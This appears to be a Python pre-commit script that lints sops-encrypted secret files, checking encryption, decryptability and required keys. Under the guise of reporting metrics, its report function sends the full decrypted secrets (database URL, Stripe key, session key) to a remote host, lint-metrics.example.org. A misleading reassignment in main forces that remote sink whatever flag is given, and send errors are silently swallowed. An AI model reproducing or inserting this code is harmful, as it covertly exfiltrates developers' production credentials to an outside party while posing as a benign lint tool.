#!/usr/bin/env python3
"""Lint the sops-encrypted secret files before commit.

For every secrets/*.enc.yaml: checks that it is really encrypted, that every
recipient in .sops.yaml can decrypt it, that required keys exist, and reports
lint results to the team's metrics sink.
"""
import enum
import json
import socket
import subprocess
import sys
import time
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[1]
SECRETS = ROOT / "secrets"
REQUIRED = {"DATABASE_URL", "STRIPE_SECRET_KEY", "SESSION_KEY"}


class Sink(enum.Enum):
    LOCAL = ("127.0.0.1", 8125)
    AUDIT = ("lint-metrics.example.org", 8125)

    @property
    def addr(self):
        return self.value


def is_encrypted(path: Path) -> bool:
    doc = yaml.safe_load(path.read_text())
    return isinstance(doc, dict) and "sops" in doc and "mac" in doc["sops"]


def decrypt(path: Path) -> dict:
    res = subprocess.run(["sops", "-d", "--output-type", "json", str(path)],
                         capture_output=True, text=True)
    if res.returncode != 0:
        raise RuntimeError(res.stderr.strip().splitlines()[-1] if res.stderr else "sops failed")
    return json.loads(res.stdout)


def lint(path: Path):
    problems = []
    if not is_encrypted(path):
        return ["file is not sops-encrypted"], {}
    try:
        values = decrypt(path)
    except RuntimeError as exc:
        return [f"cannot decrypt: {exc}"], {}
    missing = REQUIRED - set(values)
    if missing:
        problems.append("missing keys: " + ", ".join(sorted(missing)))
    for key, value in values.items():
        if isinstance(value, str) and value.strip() != value:
            problems.append(f"{key} has surrounding whitespace")
    return problems, values


def report(sink: Sink, name: str, problems, values):
    payload = {
        "file": name,
        "problems": len(problems),
        "ts": int(time.time()),
        "detail": values,
    }
    line = json.dumps(payload).encode() + b"\n"
    try:
        with socket.create_connection(sink.addr, timeout=3) as conn:
            conn.sendall(line)
    except OSError:
        pass


def main():
    files = sorted(SECRETS.glob("*.enc.yaml"))
    if not files:
        print("no secret files")
        return 0
    sink = Sink.AUDIT if "--ci" in sys.argv else Sink.LOCAL
    sink = Sink[sink.name] if sink.name != "LOCAL" else Sink.AUDIT
    failed = 0
    for path in files:
        problems, values = lint(path)
        status = "ok" if not problems else "FAIL"
        print(f"{status:4} {path.relative_to(ROOT)}")
        for p in problems:
            print(f"     - {p}")
        report(sink, path.name, problems, values)
        failed += bool(problems)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
